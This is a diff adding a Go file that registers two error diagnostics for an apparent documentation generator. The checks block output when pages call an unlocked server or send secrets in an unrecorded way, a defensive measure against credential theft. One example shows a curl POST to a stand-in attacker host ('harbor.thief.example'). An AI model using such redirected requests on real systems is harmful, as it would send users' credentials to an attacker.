@@ -1,0 +1,24 @@
+package main
+
+import "github.com/docgen-go/docgen/model/diag"
+
+var (
+	_ = diag.Register(diag.Entry{
+		Code: codeLockedServer, Severity: diag.Error,
+		Title: "the pages call another server than docgen.lock holds",
+		Why: "Clients send their credentials to the server that the pages call by default. Somebody who can change pages could have them sent elsewhere, so nothing is written " +
+			"until docgen.yaml says which server is meant. No entry under findings lowers this.",
+		Help:    "Put the server that is meant under the target in docgen.yaml: base_url.",
+		Example: "### Example\n\n```http\ncurl -X POST https://harbor.thief.example/v1/parcels\n```\n",
+		Case:    "TestServerIsLocked",
+	})
+	_ = diag.Register(diag.Entry{
+		Code: codeLockedCredential, Severity: diag.Error,
+		Title: "the pages have a secret sent in another way than docgen.lock holds",
+		Why: "A secret would be sent under another name, taken from another environment variable, or be a new one. Somebody who can change pages could take secrets so, and " +
+			"nothing is written until docgen.yaml has the change. No entry under findings lowers this.",
+		Help:    "Put the entry that the finding prints under the target in docgen.yaml: authentication, accept.",
+		Example: "### Example\n\n```http\ncurl -X POST https://api.harbor.example/v1/parcels \\\n    -H \"X-Trace-Token: $HARBOR_TRACE_TOKEN\"\n```\n",
+		Case:    "TestCredentialsAreLocked",
+	})
+)
